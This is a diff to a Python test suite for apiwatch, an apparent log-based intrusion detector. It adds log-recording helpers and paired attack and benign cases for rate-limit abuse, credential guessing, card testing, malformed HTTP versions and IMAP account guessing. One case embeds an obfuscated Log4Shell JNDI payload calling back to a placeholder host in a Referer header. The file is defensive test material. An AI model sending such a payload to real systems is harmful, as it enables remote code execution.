@@ -44,6 +44,7 @@ from apiwatch.model import (
 )
 from apiwatch.sensor._tools import attack_tool
 from apiwatch.sources.accesslog import parse_access_line
+from apiwatch.sources.errorlogs import ERROR_PARSERS
 
 HERE = Path(__file__).resolve().parent
 T0 = datetime(2026, 3, 2, 9, 0, 0, tzinfo=UTC)  # a Monday morning; times are seconds from here
@@ -189,11 +190,23 @@ class Recorder:
         """A login attempt through the sensor: it names the account tried."""
         self.request(t, ip, "POST", LOGIN, 200 if ok else 401, ua=ua, user=user)
 
-    def access(self, t: int, ip: str, method: str, target: str, status: int, *, ua: str) -> None:
+    def access(
+        self,
+        t: int,
+        ip: str,
+        method: str,
+        target: str,
+        status: int,
+        *,
+        ua: str,
+        version: str = "1.1",
+        referer: str = "-",
+    ) -> None:
         """One nginx access-log line (combined format), parsed by apiwatch's access-log source:
         no account name, logins inferred from the route (``event.dataset: nginx.access``)."""
         when = (T0 + timedelta(seconds=t)).strftime("%d/%b/%Y:%H:%M:%S +0000")
-        line = f'{ip} - - [{when}] "{method} {target} HTTP/1.1" {status} 512 "-" "{ua}"'
+        request = f"{method} {target} HTTP/{version}"
+        line = f'{ip} - - [{when}] "{request}" {status} 512 "{referer}" "{ua}"'
         event = parse_access_line(line)
         if event is None:
             raise ValueError(f"not an access-log line: {line}")
@@ -202,6 +215,38 @@ class Recorder:
 
     def access_login(self, t: int, ip: str, ok: bool, *, ua: str = CHROME) -> None:
         self.access(t, ip, "POST", LOGIN, 200 if ok else 401, ua=ua)
+
+    def nginx_error(self, t: float, ip: str, text: str, target: str = "/") -> None:
+        """One nginx error-log line about a client (``event.dataset: nginx.error``), parsed by
+        apiwatch's error-log source."""
+        when = (T0 + timedelta(seconds=t)).strftime("%Y/%m/%d %H:%M:%S")
+        line = (
+            f"{when} [error] 4065#4065: *{len(self.events) + 1} {text}, client: {ip}, "
+            f'server: shop.example.com, request: "GET {target} HTTP/1.1", host: "shop.example.com"'
+        )
+        event = ERROR_PARSERS["nginx-error"](line, None)
+        event.event = msgspec.structs.replace(event.event, id=self._id())
+        self.events.append(event)
+
+    def mail_login_fail(self, t: float, ip: str, user: str) -> None:
+        """One failed IMAP login through nginx's mail proxy, as its error log writes it."""
+        when = (T0 + timedelta(seconds=t)).strftime("%Y/%m/%d %H:%M:%S")
+        line = (
+            f'{when} [info] 8#8: *{len(self.events) + 1} client login failed: "Invalid login" '
+            f'while in http auth state, client: {ip}, server: 0.0.0.0:143, login: "{user}"'
+        )
+        event = ERROR_PARSERS["nginx-error"](line, None)
+        event.event = msgspec.structs.replace(event.event, id=self._id())
+        self.events.append(event)
+
+    def magento(self, t: float, ip: str, kind: str) -> None:
+        """One event of Magento's CrowdSec extension (``ADMIN_LOGIN_FAILED``, ``PAYMENT_FAILED``),
+        parsed by apiwatch's source for it."""
+        when = (T0 + timedelta(seconds=t)).strftime("%Y-%m-%d %H:%M:%S")
+        body = json.dumps({"type": kind, "ip": ip, "x-forwarded-for-ip": ""})
+        event = ERROR_PARSERS["magento"](f"[{when}] crowdsec-events.INFO:  {body} []", None)
+        event.event = msgspec.structs.replace(event.event, id=self._id())
+        self.events.append(event)
 
 
 def _sensor_action(method: str, path: str, status: int, tool: str | None) -> Action:
@@ -1172,6 +1217,133 @@ def apiscp_attack(r: Recorder) -> Expected:
 def apiscp_near(r: Recorder) -> Expected:
     access_customers(r, 0, 300)
     hits(r, home_ip(203), 60, [("POST", "/apps/login", 200)] * 5, ua=CHROME, gap=10)
+    return []
+
+
+NLIM = "nginx-limit-exceeded"
+LIMITED = 'limiting requests, excess: 5.428 by zone "api"'
+
+
+@case(NLIM, "hammering-through-the-limit")
+def nlim_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    for n in range(8):
+        r.nginx_error(60 + n * 4, "203.0.113.59", LIMITED, f"/api/v1/products/{n}")
+    return [alert(NLIM, {"source.ip": "203.0.113.59"}, count=8, attackers=["203.0.113.59"])]
+
+
+@case(NLIM, "five-refusals-and-app-429s")
+def nlim_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    for n in range(5):  # a client slowed down five times in a minute, then it backs off
+        r.nginx_error(60 + n * 10, home_ip(204), LIMITED)
+    for n in range(10):  # the application's own 429s are not nginx's limit
+        r.request(60 + n * 2, home_ip(205), "GET", "/api/v1/search", 429, ua=APP)
+    r.nginx_error(200, home_ip(206), 'open() "/srv/www/favicon.ico" failed (2: No such file)')
+    return []
+
+
+BURST, CARDS = "login-failure-burst", "card-testing-source"
+
+
+@case(BURST, "basic-auth-guessing")
+def burst_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    for n in range(8):  # a script against HTTP basic authentication: one account, 8 s
+        r.nginx_error(60 + n, "203.0.113.60", f'user "admin{n}" was not found in "/etc/htpasswd"')
+    return [alert(BURST, {"source.ip": "203.0.113.60"}, count=8, attackers=["203.0.113.60"])]
+
+
+@case(BURST, "admin-panel-script")
+def burst_magento(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    for n in range(7):
+        r.magento(90 + n * 1.5, "203.0.113.61", "ADMIN_LOGIN_FAILED")
+    return [alert(BURST, {"source.ip": "203.0.113.61"}, count=7, attackers=["203.0.113.61"])]
+
+
+@case(BURST, "five-quick-typos-and-an-office")
+def burst_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 600)
+    office_morning(r, people=120, typos=40, start=30, span=500)
+    for n in range(5):  # someone hammering Enter on a wrong password, then getting it right
+        r.login(100 + n * 2, home_ip(207), account(207), ok=False)
+    r.login(112, home_ip(207), account(207), ok=True)
+    return []
+
+
+@case(CARDS, "stolen-cards-one-after-another")
+def cards_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    for n in range(6):
+        r.magento(60 + n * 5, "203.0.113.62", "PAYMENT_FAILED")
+    return [alert(CARDS, {"source.ip": "203.0.113.62"}, count=6, attackers=["203.0.113.62"])]
+
+
+@case(CARDS, "customer-retrying-a-declined-card")
+def cards_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    for n in range(3):  # three tries in half a minute, then another card a minute later
+        r.magento(60 + n * 10, home_ip(208), "PAYMENT_FAILED")
+    r.magento(150, home_ip(208), "PAYMENT_FAILED")
+    return []
+
+
+INVV = "invalid-http-version"
+
+
+@case(INVV, "dos-tool-versions")
+def invv_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    r.access(60, "203.0.113.63", "GET", "/", 400, ua=CHROME, version="1.2")
+    r.access(70, "203.0.113.64", "GET", "/", 400, ua=FIREFOX, version="2.1")
+    return [
+        alert(INVV, {"source.ip": "203.0.113.63"}, count=1, attackers=["203.0.113.63"]),
+        alert(INVV, {"source.ip": "203.0.113.64"}, count=1, attackers=["203.0.113.64"]),
+    ]
+
+
+@case(INVV, "every-real-version")
+def invv_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    for n, version in enumerate(("0.9", "1.0", "1.1", "2.0", "3.0")):
+        r.access(60 + n, home_ip(209 + n), "GET", "/", 200, ua=CHROME, version=version)
+    r.access(80, home_ip(215), "GET", "/", 400, ua=CURL, version="1.1")
+    return []
+
+
+@case(EXP, "log4shell-in-the-referer")
+def exp_referer(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    payload = "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.99/callback}"
+    r.access(60, "203.0.113.65", "GET", "/", 200, ua=CHROME, referer=payload)
+    r.access(61, home_ip(216), "GET", "/", 200, ua=CHROME, referer="https://shop.example.com/")
+    return [alert(EXP, {"source.ip": "203.0.113.65"}, count=1, attackers=["203.0.113.65"])]
+
+
+MAIL = "mail-account-guessing"
+
+
+@case(MAIL, "address-list-against-imap")
+def mail_attack(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    tried = [account(n) for n in range(300, 305)]
+    for n, who in enumerate(tried):
+        r.mail_login_fail(60 + n * 3, "203.0.113.66", who)
+    return [
+        alert(MAIL, {"source.ip": "203.0.113.66"}, count=5, attackers=["203.0.113.66"],
+              accounts=tried)
+    ]  # fmt: skip
+
+
+@case(MAIL, "three-colleagues-and-web-logins")
+def mail_benign(r: Recorder) -> Expected:
+    access_customers(r, 0, 300)
+    for n in range(3):  # three people behind the office NAT with a stale phone password
+        r.mail_login_fail(60 + n * 5, OFFICE_NAT, account(310 + n))
+    for n in range(4):  # web logins are not mail logins
+        r.login(70 + n * 4, OFFICE_NAT, account(320 + n), ok=False)
+        r.login(72 + n * 4, OFFICE_NAT, account(320 + n), ok=True)
     return []
 
 
